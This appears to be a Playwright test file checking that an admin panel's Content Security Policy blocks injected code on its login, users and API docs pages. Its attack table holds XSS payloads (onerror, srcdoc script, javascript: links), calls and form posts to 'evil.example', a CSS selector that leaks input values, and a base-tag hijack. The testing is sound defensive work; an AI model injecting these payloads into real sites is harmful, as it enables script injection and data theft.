import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import type { Page } from 'playwright-core'
import { chromiumPath, takeViolations, warnWithoutChromium } from '../support/browser.ts'
import { startPanel, type Panel } from '../support/panel/startPanel.ts'

warnWithoutChromium()
;(chromiumPath ? describe : describe.skip)('what a page did not bring does not run in it', () => {
  let panel: Panel
  let page: Page

  beforeAll(async () => {
    panel = await startPanel()
    page = await (await panel.open()).newPage()
  })
  afterAll(async () => panel?.stop())

  const attacks = {
    'a script in the page': `const script = document.createElement('div'); script.innerHTML = '<img src="x" onerror="window.taken = true">'; document.body.append(script)`,
    'a script of this host': `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script src=/api/docs/start.js></script><script>parent.taken = true</script>"></iframe>')`,
    'a script address': `const link = document.createElement('a'); link.href = 'javascript:window.taken = true'; document.body.append(link); link.click()`,
    'a word to a stranger': `fetch('https://evil.example/').catch(() => undefined)`,
    'a form to a stranger': `const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit()`,
    'a style': `const style = document.createElement('style'); style.textContent = 'input[value^=a] { background: url(https://evil.example/a) }'; document.head.append(style)`,
    'another base': `const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base)`,
  }

  const pages = {
    '/admin/login': '#field-email',
    '/admin/collections/users': 'table',
    '/api/docs': '.opblock-tag',
  }

  for (const [path, part] of Object.entries(pages)) {
    test(`${path} works, and stops what is put into it`, async () => {
      if (path === '/admin/login') await page.context().clearCookies()
      await page.goto(`${panel.platform.url}${path}`)
      await page.waitForSelector(part)
      if (path === '/api/docs') {
        await page.locator('.opblock-tag').first().click()
        await page.locator('.opblock-summary-control').first().click()
        await page.waitForSelector('.opblock-body')
      }
      expect(takeViolations()).toEqual([])
      for (const [name, attack] of Object.entries(attacks)) {
        const refused = page.waitForEvent('console', { predicate: (message) => /Security Policy/.test(message.text()) })
        await page.evaluate(attack)
        await refused
        expect([name, await page.evaluate('window.taken')]).toEqual([name, undefined])
      }
      expect(takeViolations().length).toBeGreaterThanOrEqual(Object.keys(attacks).length)
      if (path === '/admin/login') await page.context().addCookies(signedIn())
    })
  }

  const signedIn = () => [{ name: 'payload-token', value: panel.platform.admin.token ?? '', url: panel.platform.url }]
})
